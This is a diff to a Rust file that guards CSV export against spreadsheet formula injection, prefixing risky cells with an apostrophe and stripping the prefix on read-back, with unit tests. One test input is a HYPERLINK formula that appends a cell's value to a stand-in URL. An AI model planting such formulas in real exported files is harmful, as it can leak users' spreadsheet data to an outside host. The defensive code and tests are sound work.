@@ -168,10 +168,11 @@ impl Line {
         })
     }
 
-    /// The CSV record, in [`COLUMNS`] order; absent fields are empty.
+    /// The CSV record, in [`COLUMNS`] order; absent fields are empty and
+    /// every cell is [`neutralised`](csv_cell) against formula injection.
     pub fn to_record(&self) -> Vec<String> {
         let s = |v: &Option<String>| v.clone().unwrap_or_default();
-        vec![
+        let cells = vec![
             self.kind.clone(),
             s(&self.chain_id),
             self.seq.map(|n| n.to_string()).unwrap_or_default(),
@@ -197,7 +198,8 @@ impl Line {
             s(&self.hash),
             s(&self.redacted_at),
             s(&self.token),
-        ]
+        ];
+        cells.into_iter().map(csv_cell).collect()
     }
 
     /// Reads a CSV record written by [`Line::to_record`].
@@ -212,7 +214,7 @@ impl Line {
                 COLUMNS.len()
             ));
         }
-        let f = |i: usize| Some(record[i].to_owned()).filter(|v| !v.is_empty());
+        let f = |i: usize| Some(csv_value(&record[i]).to_owned()).filter(|v| !v.is_empty());
         let seq = f(2)
             .map(|v| {
                 v.parse::<i64>()
@@ -224,7 +226,7 @@ impl Line {
             .transpose()?;
         let gpc = f(11).map(|v| v == "true");
         Ok(Self {
-            kind: record[0].to_owned(),
+            kind: csv_value(&record[0]).to_owned(),
             chain_id: f(1),
             seq,
             recorded_at: f(3),
@@ -247,5 +249,48 @@ impl Line {
             redacted_at: f(20),
             token: f(21),
         })
+    }
+}
+
+/// A cell a spreadsheet will not run: one that starts with a formula
+/// character (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`, as OWASP
+/// advises, and so does one starting with `'`, so that [`csv_value`] gives
+/// back exactly the stored value: the hashes cover that, not the cell.
+fn csv_cell(value: String) -> String {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{value}"),
+        _ => value,
+    }
+}
+
+/// The stored value of a cell written by [`csv_cell`].
+fn csv_value(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::{csv_cell, csv_value};
+
+    #[test]
+    fn formula_cells_are_neutralised_and_read_back_unchanged() {
+        for value in [
+            "=HYPERLINK(\"http://x/\"&A1,\"click\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "'quoted",
+            "''",
+        ] {
+            let cell = csv_cell(value.to_owned());
+            assert!(cell.starts_with('\''), "{value:?} -> {cell:?}");
+            assert_eq!(csv_value(&cell), value);
+        }
+        for plain in ["Mozilla/5.0", "", "{\"a\":true}", "2026-11-25"] {
+            assert_eq!(csv_cell(plain.to_owned()), plain);
+            assert_eq!(csv_value(plain), plain);
+        }
     }
 }
